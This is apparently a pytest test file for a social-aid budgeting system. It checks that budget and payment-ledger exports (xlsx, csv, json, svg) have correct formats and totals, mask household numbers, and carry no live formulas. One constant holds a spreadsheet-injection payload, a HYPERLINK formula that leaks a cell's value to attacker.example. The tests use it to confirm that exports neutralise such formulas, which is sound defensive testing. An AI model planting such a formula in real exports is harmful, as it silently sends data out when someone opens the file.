"""The budget report and the payment ledger as an auditor files them, and exports that are safe to open."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import msgspec
import pytest
from openpyxl import load_workbook

from salur_cases.cli import main
from salur_cases.domain.commands import OpenTahap
from salur_cases.domain.vocabulary import BudgetSource, Role
from salur_cases.processes import allocation, disbursement, programs
from salur_cases.projections.audit import BUDGET_FIELDS, LEDGER_FIELDS, payments
from salur_cases.projections.audit.budget import budget_report
from salur_cases.projections.audit.chart import unit_of, value_label
from salur_cases.projections.audit.ledger import ledger_report, ledger_totals
from salur_cases.projections.audit.provenance import Provenance
from salur_cases.projections.audit.workbook import RUPIAH, sheet_name
from salur_cases.projections.migrate import upgrade
from salur_cases.projections.runner import catch_up
from salur_cases.runtime import Runtime
from salur_cases.settings import load_settings, reset_settings_cache
from tests.builders import DINSOS, define_program, no_kk_of, payment, register_eligible
from tests.conftest import StoreTarget
from tests.integration.test_budget import history

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A2,"SK")'


def _url(target: StoreTarget) -> str:
    return f"{target.url}?schema={target.schema}" if target.schema else target.url


@pytest.fixture
def runtime(
    store_url: StoreTarget, env_keys: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> Iterator[Runtime]:
    """The budget test's history, plus a tahap whose decree reference is a formula; the CLI points here."""
    env = {"SALUR_DATABASE_URL": _url(store_url), **env_keys}
    rt = Runtime(load_settings(env))
    upgrade(rt)
    history(rt.app)
    define_program(rt.app, "JAHAT", BudgetSource.APBD_KOTA)
    programs.open_tahap(
        rt.app,
        "JAHAT",
        OpenTahap(1, date(2020, 9, 1), date(2020, 9, 30), 5, 100_000, 500_000, FORMULA),
        DINSOS,
    )
    catch_up(rt)
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    reset_settings_cache()
    yield rt
    rt.close()
    reset_settings_cache()


def _budget(runtime: Runtime) -> tuple[list[dict[str, Any]], Provenance]:
    """The budget report's rows as dicts, and what they stand on."""
    rows, stands_on = budget_report(runtime)
    return [msgspec.structs.asdict(r) for r in rows], stands_on


def _run(*args: str) -> None:
    assert main(["report", *args]) == 0


def test_the_budget_xlsx_has_rupiah_formats_fitted_widths_a_frozen_header_and_totals_as_values(
    runtime: Runtime, tmp_path: Path
) -> None:
    rows, stands_on = _budget(runtime)
    _run("budget", "--format", "xlsx", "--out", str(tmp_path / "b.xlsx"))

    sheet: Any = load_workbook(tmp_path / "b.xlsx").active
    assert sheet.title == "Budget by source, program" == sheet_name("Budget by source, program and tahap")
    assert sheet.cell(2, 1).value.startswith("as of ")
    assert sheet.cell(3, 1).value == f"chain head {stands_on.head}"
    assert [c.value for c in sheet[4]] == list(BUDGET_FIELDS)
    assert sheet.freeze_panes == "A5"
    body = [[c.value for c in row] for row in sheet.iter_rows(min_row=5)]
    assert [r[:3] for r in body[: len(rows)]] == [
        [r["budget_source"], r["program"], r["tahap"]] for r in rows
    ]
    paid = BUDGET_FIELDS.index("paid_idr")
    for row in sheet.iter_rows(min_row=5):
        assert row[paid].number_format == RUPIAH
        assert row[BUDGET_FIELDS.index("quota")].number_format == "#,##0"
        assert all(c.data_type != "f" for c in row)  # totals are values, never formulas
    totals = {r[0]: r for r in body[len(rows) :]}
    assert set(totals) == {"subtotal APBD_KOTA", "subtotal APBD_PROVINSI", "subtotal APBN", "total"}
    for source in ("APBD_KOTA", "APBD_PROVINSI", "APBN"):
        assert totals[f"subtotal {source}"][paid] == sum(
            r["paid_idr"] for r in rows if r["budget_source"] == source
        )
    assert totals["total"][paid] == sum(r["paid_idr"] for r in rows) == 5_250_000
    widths = {letter: d.width for letter, d in sheet.column_dimensions.items()}
    assert widths["M"] == len(FORMULA) + 2  # decree_ref: fitted to the longest value
    assert widths["A"] == len("subtotal APBD_PROVINSI") + 2
    assert widths["C"] == len("tahap") + 2


def test_the_budget_table_fits_100_columns_with_thousands_separators_and_totals(
    runtime: Runtime, capsys: pytest.CaptureFixture[str]
) -> None:
    _run("budget")

    out = capsys.readouterr().out
    assert max(len(line) for line in out.splitlines()) <= 100
    assert "chain head " in out
    assert "as of " in out
    assert re.search(r"^TOTAL\s.*\s5,250,000\s", out, re.MULTILINE)  # paid_idr of every tahap
    assert "  subtotal" in out
    assert "1,500,000" in out  # WALIKOTA 1's paid_idr


def test_the_budget_csv_and_json_keep_whole_rupiah_and_carry_the_as_of_time_and_chain_head(
    runtime: Runtime, tmp_path: Path
) -> None:
    rows, _ = _budget(runtime)
    _run("budget", "--format", "json", "--out", str(tmp_path / "b.json"))
    _run("budget", "--format", "csv", "--out", str(tmp_path / "b.csv"))

    document = json.loads((tmp_path / "b.json").read_text())
    assert document["items"] == rows
    assert set(document["chain_head"]) == {"position", "hash"}
    assert document["chain_head"]["position"] == runtime.app.recorder.max_notification_id()
    text = (tmp_path / "b.csv").read_text()
    preamble = [line for line in text.splitlines() if line.startswith("#")]
    assert len(preamble) == 2
    assert preamble[0].startswith("# as of ")
    assert (
        preamble[1] == f"# chain head {document['chain_head']['position']}:{document['chain_head']['hash']}"
    )
    body = list(csv.DictReader(line for line in io.StringIO(text) if not line.startswith("#")))
    assert [int(r["paid_idr"]) for r in body] == [r["paid_idr"] for r in rows]
    assert [int(r["remainder_idr"]) for r in body] == [r["remainder_idr"] for r in rows]


def test_the_chart_shows_each_budget_source_in_juta_with_values_and_ceilings_read_back_from_the_svg(
    runtime: Runtime, tmp_path: Path
) -> None:
    rows, stands_on = _budget(runtime)
    _run("budget", "--format", "svg", "--out", str(tmp_path / "b.svg"))

    svg = ET.parse(tmp_path / "b.svg").getroot()  # noqa: S314 - our own file
    texts = ["".join(e.itertext()).strip() for e in svg.iter() if e.tag.endswith("text")]
    ticks = [
        float("".join(g.itertext()).strip().replace("\u2212", "-"))
        for g in svg.iter()
        if g.tag.endswith("g") and re.fullmatch(r"ytick_\d+", g.get("id", ""))
    ]
    divisor, unit = unit_of(max(max(r["paid_idr"] - r["returned_idr"], r["ceiling_idr"]) for r in rows))
    assert (divisor, unit) == (1_000_000, "juta")
    day = stands_on.as_of.date()
    assert any(f"(Rupiah juta), as of {day.day} " in t and str(day.year) in t for t in texts)
    for source in ("APBD_KOTA", "APBD_PROVINSI", "APBN"):
        assert source in texts
    for row in rows:
        assert f"{row['program']} {row['tahap']}" in texts
        assert value_label(row["paid_idr"] - row["returned_idr"], divisor) in texts
    assert value_label(1_500_000 - 500_000, divisor) == "1.00"
    assert "ceiling" in texts
    assert f"chain head {stands_on.head}" in texts
    assert texts.count("Rupiah (juta)") == 3  # each panel's axis
    assert min(ticks) == 0
    assert max(ticks) >= max(r["ceiling_idr"] for r in rows) / divisor  # the axis reaches every ceiling


def test_the_payment_ledger_totals_equal_the_budget_reports_paid_and_returned(
    runtime: Runtime, tmp_path: Path
) -> None:
    rows, _ = _budget(runtime)
    ledger, _ = ledger_report(runtime)

    totals = ledger_totals(ledger)
    assert totals["paid_idr"] == sum(r["paid_idr"] for r in rows)
    assert totals["returned_idr"] == sum(r["returned_idr"] for r in rows)
    for row in rows:
        own, _ = ledger_report(runtime, row["program"], row["tahap"])
        assert (ledger_totals(own)["paid_idr"], ledger_totals(own)["returned_idr"]) == (
            row["paid_idr"],
            row["returned_idr"],
        )
    assert [list(r) for r in ledger] == [list(LEDGER_FIELDS)] * len(ledger)
    _run(
        "payments",
        "--program",
        "WALIKOTA",
        "--tahap",
        "1",
        "--format",
        "json",
        "--out",
        str(tmp_path / "p.json"),
    )
    document = json.loads((tmp_path / "p.json").read_text())
    expected = ledger_report(runtime, "WALIKOTA", 1)[0]
    assert document["items"] == [{**r, "paid_on": r["paid_on"].isoformat()} for r in expected]
    assert {(i["program"], i["tahap"]) for i in document["items"]} == {("WALIKOTA", 1)}
    assert set(document["chain_head"]) == {"position", "hash"}


def test_the_ledger_pages_and_masks_the_no_kk_for_a_role_that_may_not_see_it(runtime: Runtime) -> None:
    ledger, _ = ledger_report(runtime)

    pages, cursor = [], None
    while True:
        page = payments(runtime, Role.INSPECTOR, limit=4, cursor=cursor)
        pages.extend(msgspec.structs.asdict(item) for item in page.items)
        cursor = page.next_cursor
        if cursor is None:
            break
    assert pages == ledger
    masked = payments(runtime, Role.ADMIN, program="GUBERNUR", limit=500).items
    assert masked
    assert all(re.fullmatch(r"\d{4}\*{8}\d{4}", i.no_kk) for i in masked)


def test_every_csv_and_xlsx_export_is_free_of_formulas(runtime: Runtime, tmp_path: Path) -> None:
    register_eligible(runtime.app, range(40, 41))
    allocation.allocate(runtime.app, "JAHAT", 1, DINSOS, candidates=[runtime.app.household_id(no_kk_of(40))])
    disbursement.record_payments(runtime.app, "JAHAT", 1, [payment(40, 100_000)], DINSOS)
    for report in ("budget", "payments", "anomalies", "programs", "padan-suggestions"):
        for fmt in ("csv", "xlsx"):
            out = tmp_path / f"{report}.{fmt}"
            _run(report, "--format", fmt, "--out", str(out))
            if fmt == "xlsx":
                for sheet in load_workbook(out).worksheets:
                    for row in sheet.iter_rows():
                        assert all(c.data_type != "f" for c in row), (report, [c.value for c in row])
                continue
            for row in csv.reader(io.StringIO(out.read_text())):
                assert not any(v[:1] in {"=", "+", "@", "\t", "\r"} for v in row), (report, row)
                assert not any(v.startswith("-") and not re.fullmatch(r"-\d+", v) for v in row), (report, row)
    budget = (tmp_path / "budget.csv").read_text()
    assert "'" + FORMULA.replace('"', '""') in budget  # kept, as text
    sheet: Any = load_workbook(tmp_path / "budget.xlsx").active
    assert FORMULA in [c.value for c in sheet["M"]]
